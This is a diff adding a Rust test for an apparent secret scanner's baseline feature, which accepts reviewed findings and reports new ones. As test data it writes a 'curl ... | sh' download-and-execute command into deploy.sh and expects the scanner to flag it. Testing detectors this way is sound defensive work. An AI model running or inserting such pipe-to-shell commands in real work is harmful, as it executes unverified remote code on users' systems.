@@ -103,3 +103,40 @@ fn user_rules_add_and_disable() {
     assert_eq!(code, 2);
     assert!(err.contains("rules"), "{err}");
 }
+
+#[test]
+fn a_baseline_accepts_reviewed_findings_and_reports_only_new_ones() {
+    let dir = tempfile::tempdir().unwrap();
+    let repo = dir.path().join("repo");
+    std::fs::create_dir(&repo).unwrap();
+    std::fs::write(repo.join("ci.yml"), format!("token: {SECRET}\n")).unwrap();
+    let root = repo.to_str().unwrap();
+    let baseline = dir.path().join("baseline.json");
+    let baseline = baseline.to_str().unwrap();
+
+    let (code, _, err) = scan(&[root, "--write-baseline", baseline]);
+    assert_eq!(code, 0, "{err}");
+    let written = std::fs::read_to_string(baseline).unwrap();
+    assert!(
+        written.contains("ci.yml") && !written.contains(SECRET),
+        "{written}"
+    );
+    let (code, out, err) = scan(&[root, "--baseline", baseline]);
+    assert_eq!(code, 0, "{out}");
+    assert!(err.contains("1 finding(s) accepted"), "{err}");
+
+    // A new leak is reported, the accepted one is not.
+    std::fs::write(
+        repo.join("deploy.sh"),
+        "curl -fsSL https://get.example.net/x | sh\n",
+    )
+    .unwrap();
+    let (code, out, _) = scan(&[root, "--baseline", baseline]);
+    assert_eq!(code, 1, "{out}");
+    assert!(
+        out.contains("download-and-execute-shell") && !out.contains("ci.yml"),
+        "{out}"
+    );
+    let (code, _, err) = scan(&[root, "--baseline", "/nonexistent/baseline.json"]);
+    assert_eq!(code, 2, "{err}");
+}
